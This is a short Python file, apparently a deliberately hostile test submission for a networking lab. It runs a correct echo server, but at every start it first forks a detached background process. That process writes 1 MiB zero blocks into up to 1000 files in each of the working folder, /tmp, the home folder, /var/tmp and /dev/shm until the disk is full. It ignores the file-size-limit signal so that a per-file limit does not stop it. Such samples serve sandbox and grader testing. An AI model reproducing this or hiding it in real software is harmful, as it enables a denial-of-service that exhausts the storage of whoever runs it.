"""Hostile lab 01 submission: a correct echo server that, at each start,
starts a child that writes until the disk is full (its own folder, then
/tmp, then any folder it can write), without stopping on its own."""

import os
import signal

import echo_server

BLOCK = b"\0" * (1 << 20)


def fill(path):
    try:
        with open(path, "ab") as file:
            while True:
                file.write(BLOCK)
    except OSError:
        pass


if os.fork() == 0:
    os.setsid()
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # past the file size limit: the next file
    for number, folder in enumerate([".", "/tmp", os.path.expanduser("~"), "/var/tmp", "/dev/shm"]):
        for part in range(1000):  # a file size limit only stops one file
            fill(os.path.join(folder, f"netlabs-hostile-fill-{number}-{part}"))
    os._exit(0)
echo_server.main()
